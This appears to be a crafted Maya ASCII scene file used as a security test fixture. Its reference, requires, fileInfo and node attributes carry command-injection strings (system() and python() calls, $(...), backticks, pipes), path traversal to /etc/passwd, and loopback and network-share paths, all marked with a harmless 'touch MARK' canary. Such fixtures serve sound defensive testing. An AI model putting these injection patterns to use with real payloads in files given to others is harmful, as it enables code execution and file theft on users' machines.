//Maya ASCII 2024 scene
file -rdi 1 -ns "r0" -rfn "r0RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "../../etc/passwd";
file -rdi 1 -ns "r1" -rfn "r1RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "/etc/passwd";
file -rdi 1 -ns "r2" -rfn "r2RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "PIPE";
file -rdi 1 -ns "r3" -rfn "r3RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "|touch MARK";
file -rdi 1 -ns "r4" -rfn "r4RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "$(touch MARK)";
file -rdi 1 -ns "r5" -rfn "r5RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "file:///etc/passwd";
file -rdi 1 -ns "r6" -rfn "r6RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "http://127.0.0.1:9/a.ma";
file -rdi 1 -ns "r7" -rfn "r7RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "//server/share/a.ma";
file -rdi 1 -ns "r8" -rfn "r8RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "$HOME/a.ma";
file -r -ns "r0" -dr 1 -rfn "r0RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "../../etc/passwd";
file -r -ns "r1" -dr 1 -rfn "r1RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "/etc/passwd";
file -r -ns "r2" -dr 1 -rfn "r2RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "PIPE";
file -r -ns "r3" -dr 1 -rfn "r3RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "|touch MARK";
file -r -ns "r4" -dr 1 -rfn "r4RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "$(touch MARK)";
file -r -ns "r5" -dr 1 -rfn "r5RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "file:///etc/passwd";
file -r -ns "r6" -dr 1 -rfn "r6RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "http://127.0.0.1:9/a.ma";
file -r -ns "r7" -dr 1 -rfn "r7RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "//server/share/a.ma";
file -r -ns "r8" -dr 1 -rfn "r8RN" -op "v=0;\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //" -typ "mayaAscii" "$HOME/a.ma";
requires maya "2024";
requires -nodeType "n" -dataType "d" "PIPE" "system(\"touch MARK\"); python(\"open('MARK', 'w')\");";
requires "../../../../MARK.so" "1.0";
requires "system(\"touch MARK\"); python(\"open('MARK', 'w')\");" "`touch MARK`";
currentUnit -l centimeter -a degree -t film;
fileInfo "system(\"touch MARK\"); python(\"open('MARK', 'w')\");" "\"; system(\"touch MARK\"); python(\"open('MARK', 'w')\"); //";
createNode reference -n "r0RN";
	setAttr ".fn[0]" -type "string" "../../etc/passwd";
	setAttr ".ed" -type "dataReferenceEdits" 
		"r0RN"
		"r0RN" 1
		2 "r0:a" "b" " -type \"string\" \"system(\\\"touch MARK\\\"); python(\\\"open('MARK', 'w')\\\");\"";
lockNode -l 1 ;
createNode reference -n "r1RN";
	setAttr ".fn[0]" -type "string" "/etc/passwd";
	setAttr ".ed" -type "dataReferenceEdits" 
		"r1RN"
		"r1RN" 1
		2 "r1:a" "b" " -type \"string\" \"system(\\\"touch MARK\\\"); python(\\\"open('MARK', 'w')\\\");\"";
lockNode -l 1 ;
createNode reference -n "r2RN";
	setAttr ".fn[0]" -type "string" "PIPE";
	setAttr ".ed" -type "dataReferenceEdits" 
		"r2RN"
		"r2RN" 1
		2 "r2:a" "b" " -type \"string\" \"system(\\\"touch MARK\\\"); python(\\\"open('MARK', 'w')\\\");\"";
lockNode -l 1 ;
createNode reference -n "r3RN";
	setAttr ".fn[0]" -type "string" "|touch MARK";
	setAttr ".ed" -type "dataReferenceEdits" 
		"r3RN"
		"r3RN" 1
		2 "r3:a" "b" " -type \"string\" \"system(\\\"touch MARK\\\"); python(\\\"open('MARK', 'w')\\\");\"";
lockNode -l 1 ;
createNode reference -n "r4RN";
	setAttr ".fn[0]" -type "string" "$(touch MARK)";
	setAttr ".ed" -type "dataReferenceEdits" 
		"r4RN"
		"r4RN" 1
		2 "r4:a" "b" " -type \"string\" \"system(\\\"touch MARK\\\"); python(\\\"open('MARK', 'w')\\\");\"";
lockNode -l 1 ;
createNode reference -n "r5RN";
	setAttr ".fn[0]" -type "string" "file:///etc/passwd";
	setAttr ".ed" -type "dataReferenceEdits" 
		"r5RN"
		"r5RN" 1
		2 "r5:a" "b" " -type \"string\" \"system(\\\"touch MARK\\\"); python(\\\"open('MARK', 'w')\\\");\"";
lockNode -l 1 ;
createNode reference -n "r6RN";
	setAttr ".fn[0]" -type "string" "http://127.0.0.1:9/a.ma";
	setAttr ".ed" -type "dataReferenceEdits" 
		"r6RN"
		"r6RN" 1
		2 "r6:a" "b" " -type \"string\" \"system(\\\"touch MARK\\\"); python(\\\"open('MARK', 'w')\\\");\"";
lockNode -l 1 ;
createNode reference -n "r7RN";
	setAttr ".fn[0]" -type "string" "//server/share/a.ma";
	setAttr ".ed" -type "dataReferenceEdits" 
		"r7RN"
		"r7RN" 1
		2 "r7:a" "b" " -type \"string\" \"system(\\\"touch MARK\\\"); python(\\\"open('MARK', 'w')\\\");\"";
lockNode -l 1 ;
createNode reference -n "r8RN";
	setAttr ".fn[0]" -type "string" "$HOME/a.ma";
	setAttr ".ed" -type "dataReferenceEdits" 
		"r8RN"
		"r8RN" 1
		2 "r8:a" "b" " -type \"string\" \"system(\\\"touch MARK\\\"); python(\\\"open('MARK', 'w')\\\");\"";
lockNode -l 1 ;
createNode file -n "texture";
	setAttr ".ftn" -type "string" "PIPE";
createNode AlembicNode -n "cache";
	setAttr ".fn" -type "string" "../../etc/passwd";
createNode audio -n "sound";
	setAttr ".f" -type "string" "PIPE";
createNode imagePlane -n "image";
	setAttr ".imn" -type "string" "PIPE";
createNode cacheFile -n "old";
	setAttr ".cp" -type "string" "/etc";
	setAttr ".cn" -type "string" "passwd";
connectAttr "r0:a.out" "r0RN.phl[1]";
